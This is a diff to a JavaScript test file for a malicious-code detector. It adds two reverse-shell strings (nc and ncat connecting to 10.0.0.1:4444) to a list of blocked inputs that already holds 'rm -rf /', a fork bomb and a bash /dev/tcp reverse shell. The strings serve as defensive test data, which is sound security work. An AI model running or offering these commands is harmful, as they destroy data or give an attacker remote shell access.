@@ -66,6 +66,8 @@ describe('malicious code in text', () => {
     'just rm -rf / and retry',
     ':(){ :|:& };:',
     'bash -i >& /dev/tcp/10.0.0.1/4444 0>&1',
+    'then nc -e /bin/sh 10.0.0.1 4444',
+    'NCAT -c /bin/bash 10.0.0.1 4444',
   ])('blocks %s', (text) => {
     expect(ids(malwareDetector, text)).toEqual(['malicious_code']);
   });
